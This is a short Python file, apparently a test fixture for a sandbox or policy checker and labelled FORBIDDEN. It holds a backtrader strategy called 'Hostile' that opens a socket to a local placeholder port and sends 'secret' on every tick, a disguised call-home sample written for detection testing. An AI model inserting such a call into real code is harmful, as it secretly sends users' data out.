# verdict: FORBIDDEN
# family: network
# witness: listener
# Call home.
import socket

import backtrader as bt


class Hostile(bt.Strategy):
    def next(self):
        line = socket.socket()
        line.connect(("127.0.0.1", int("@PORT@")))
        line.send(b"secret")
